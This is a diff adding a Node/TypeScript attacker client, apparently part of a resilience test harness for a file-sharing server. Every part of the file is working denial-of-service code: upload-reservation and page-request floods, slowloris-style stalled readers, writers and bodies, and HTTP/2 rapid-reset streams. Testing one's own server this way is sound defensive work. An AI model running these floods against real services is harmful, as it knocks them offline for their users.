@@ -1,0 +1,157 @@
+// One client address that attacks a server. Runs as its own process: node attacker.ts <attack> <url> <address>.
+// Prints what the server did, as one line of JSON, when its stdin is closed.
+import { once } from 'node:events';
+import { connect as connectHttp2, constants } from 'node:http2';
+import { Agent, request as requestHttps } from 'node:https';
+import { connect as connectTcp } from 'node:net';
+import { connect as connectTls, type TLSSocket } from 'node:tls';
+import { text } from 'node:stream/consumers';
+import type { IncomingMessage } from 'node:http';
+
+const [attack = '', address = '', localAddress = ''] = process.argv.slice(2);
+const url = new URL(address);
+const host = url.hostname;
+const port = Number(url.port);
+const MB = 1024 * 1024;
+/** More than any limit, as in the reviews that found the weaknesses. */
+const CONNECTIONS = 500;
+/** One part, and more than the buffers of a connection hold. */
+const FILE = 20 * MB;
+const LARGEST_FILE = Math.floor(10.9 * 1024 ** 3);
+
+const counts: Record<string, number> = {};
+const count = (outcome: string) => void (counts[outcome] = (counts[outcome] ?? 0) + 1);
+let isStopped = false;
+process.stdin.resume().once('end', () => {
+  isStopped = true;
+  process.stdout.write(JSON.stringify(counts), () => process.exit());
+});
+
+const agent = new Agent({ keepAlive: true, localAddress, maxSockets: 50 });
+const session = { cookie: '', 'x-csrf-token': '', 'content-type': 'application/json', accept: 'application/json' };
+
+async function call(method: string, path: string, body?: object): Promise<{ status: number; body: never }> {
+  const sent = requestHttps(new URL(path, url), { method, agent, headers: session });
+  sent.end(body && JSON.stringify(body));
+  const [response] = (await once(sent, 'response')) as [IncomingMessage];
+  session.cookie = response.headers['set-cookie']?.[0]?.split(';')[0] ?? session.cookie;
+  return { status: response.statusCode ?? 0, body: JSON.parse((await text(response)) || '{}') as never };
+}
+
+const INIT = {
+  fileName: 'a',
+  contentType: '',
+  totalParts: 1,
+  downloadLimit: 100,
+  retentionPeriod: 1,
+  isEncrypted: true,
+};
+const init = (fileSize: number) => call('POST', '/api/upload/init', { ...INIT, fileSize });
+
+async function signedPart(fileSize: number) {
+  const { body: upload } = await init(fileSize);
+  const { uploadId, fileKey } = upload as { uploadId: string; fileKey: string };
+  const { body } = await call('POST', '/api/upload/presigned-url', { uploadId, fileKey, partNumber: 1 });
+  return { uploadId, fileKey, partUrl: new URL((body as { presignedUrl: string }).presignedUrl) };
+}
+
+/** Uploads a file of its own and returns a signed URL of it. */
+async function ownFile(bytes: number): Promise<URL> {
+  const { partUrl, ...upload } = await signedPart(bytes);
+  const sent = requestHttps(partUrl, { method: 'PUT', agent });
+  sent.end(Buffer.alloc(bytes + 28));
+  const [response] = (await once(sent, 'response')) as [IncomingMessage];
+  response.resume();
+  const parts = [{ PartNumber: 1, ETag: response.headers.etag }];
+  const metadata = {
+    chunkSize: bytes,
+    salt: Buffer.alloc(16).toString('base64'),
+    keyCheck: Buffer.alloc(28).toString('base64'),
+  };
+  const { body } = await call('POST', '/api/upload/complete', { ...upload, metadata, parts });
+  const granted = await call('GET', `/api/download/${(body as { downloadId: string }).downloadId}`);
+  return new URL((granted.body as { presignedUrl: string }).presignedUrl);
+}
+
+/** Repeats an action on several lanes, without an end. */
+function flood(lanes: number, act: () => Promise<unknown>): void {
+  const run = async () => {
+    while (!isStopped) await act().catch(() => count('failed'));
+  };
+  for (let lane = 0; lane < lanes; lane += 1) void run();
+}
+
+/** Opens a connection from the address of this attacker. */
+const tcp = () => connectTcp({ host, port, localAddress }).on('error', () => undefined);
+
+/** Opens a connection that sends these bytes, then one byte every second if `drips`, and never reads. */
+function stall(head: string, drips: boolean): void {
+  const socket: TLSSocket = connectTls({ socket: tcp(), host, ALPNProtocols: ['http/1.1'] });
+  socket.on('error', () => undefined);
+  socket.once('secureConnect', () => {
+    count('connected');
+    socket.write(head);
+    // Without a reader Node would not notice that the server closes the connection.
+    const timer = setInterval(() => socket.write(drips ? 'x' : ''), 1000);
+    socket.once('close', () => clearInterval(timer));
+  });
+  socket.once('close', () => count('closed'));
+  socket.pause();
+}
+
+const stallAll = (head: string, drips: boolean) => {
+  for (let made = 0; made < CONNECTIONS; made += 1) stall(head, drips);
+};
+
+const requestLine = (method: string, target: URL | string) =>
+  `${method} ${typeof target === 'string' ? target : target.pathname + target.search} HTTP/1.1\r\nhost: ${url.host}\r\n`;
+
+/** Opens streams and resets them at once, and connects again whenever the server has ended the session. */
+async function resetStreams(): Promise<void> {
+  const client = connectHttp2(url, {
+    createConnection: () => connectTls({ socket: tcp(), host, ALPNProtocols: ['h2'] }),
+  });
+  client.on('error', () => undefined);
+  client.once('goaway', (code) => count(`goaway ${code}`));
+  client.once('connect', () => count('connected'));
+  const closed = once(client, 'close');
+  while (!isStopped && !client.closed && !client.destroyed) {
+    for (let made = 0; made < 100 && !client.closed; made += 1) {
+      const stream = client.request({ ':path': '/api/download/page/AAAAAAAAAAAAAAAAAAAAAA' });
+      stream.on('error', () => undefined);
+      stream.close(constants.NGHTTP2_CANCEL);
+      count('reset');
+    }
+    await new Promise((resolve) => setImmediate(resolve));
+  }
+  client.destroy();
+  await closed;
+}
+
+const attacks: Record<string, () => Promise<void> | void> = {
+  reservations: () =>
+    flood(20, async () => {
+      const { status } = await init(LARGEST_FILE);
+      count(String(status));
+    }),
+  pages: () =>
+    flood(50, async () => {
+      const { status } = await call('GET', '/api/download/page/AAAAAAAAAAAAAAAAAAAAAA');
+      count(String(status));
+    }),
+  readers: async () => stallAll(`${requestLine('GET', await ownFile(FILE))}\r\n`, false),
+  writers: async () => {
+    const { partUrl } = await signedPart(FILE);
+    stallAll(`${requestLine('PUT', partUrl)}content-length: ${FILE + 28}\r\n\r\n${'x'.repeat(MB - 1)}`, true);
+  },
+  bodies: () =>
+    stallAll(
+      `${requestLine('POST', '/api/upload/init')}content-type: application/json\r\ncontent-length: 200000\r\n\r\n${' '.repeat(100_000)}`,
+      true,
+    ),
+  resets: () => flood(2, resetStreams),
+};
+
+const token = await call('POST', '/api/csrf-token');
+session['x-csrf-token'] = (token.body as { token: string }).token;
+await attacks[attack]?.();
